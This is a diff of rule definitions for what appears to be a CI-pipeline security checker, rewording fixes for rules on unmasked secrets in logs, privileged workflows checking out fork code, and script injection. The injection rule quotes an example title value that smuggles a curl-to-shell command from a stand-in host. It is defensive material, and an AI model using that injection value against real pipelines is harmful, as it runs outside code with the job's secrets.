+   why: "The runner hides stored secrets in logs. A token that a command fetched, or a part of a secret that a script took out, it does not know: once that is an output, a variable or part of the environment, any later step prints it in plain text, with an error message, a debug line or a list of the environment. In Azure Pipelines a variable set without `issecret=true` is also put into the environment of every later step.",
+   fix: 'Mask first, pass on after: `echo "::add-mask::$TOKEN"` in the line after the token was fetched. In Azure Pipelines set the variable with `issecret=true`. Better still, use the token in the step that fetches it.',
    securitySeverity: 8,
    references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#masking-a-value-in-a-log", "https://learn.microsoft.com/en-us/azure/devops/pipelines/scripts/logging-commands#setvariable-initialize-or-modify-the-value-of-a-variable" ],
    bad: {
@@ -2149,7 +2151,7 @@ export const modules = {
   const about = {
    summary: "Job with id-token or secrets checks out untrusted code",
    why: "`pull_request_target`, `workflow_run` and `issue_comment` run with the rights of the base repository, also for a pull request from a fork. If such a job checks out the head of that pull request, the person who opened it decides what runs there: a build script, a test, a package hook, a configuration of a linter. With `id-token: write` it can take the identity that clouds and the MCP gateway trust; with a secret it has the secret.",
-   fix: "Run untrusted code in a `pull_request` workflow without secrets, and hand its result to a privileged workflow as data. Where only the base is needed, drop `ref`. Where a person of the project has to decide, let the job wait for an environment with required reviewers.",
+   fix: "Run untrusted code in a `pull_request` workflow without secrets, and pass its result to a privileged workflow as data. Where only the base is needed, drop `ref`. Where a person of the project has to decide, let the job wait for an environment with required reviewers.",
    securitySeverity: 9.3,
    references: [ "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/", "https://docs.github.com/en/actions/reference/security/secure-use" ],
    bad: {
@@ -2229,7 +2231,7 @@ export const modules = {
   const about = {
    summary: "Untrusted input is expanded into a script",
    why: 'An expression in a script is replaced before the shell starts. A title, a branch name or a commit message is whatever its author wrote: `"; curl evil.example | sh; #` in a title becomes commands of the job. They run with all that the job holds: its OIDC identity, its secrets, its service connection. Where it holds none of these it is a warning.',
-   fix: 'Hand the value over in `env` and use the variable, quoted: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
+   fix: 'Pass the value through `env` and use the quoted variable: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
    securitySeverity: 9,
    references: [ "https://docs.github.com/en/actions/concepts/security/script-injections", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs" ],
    bad: {
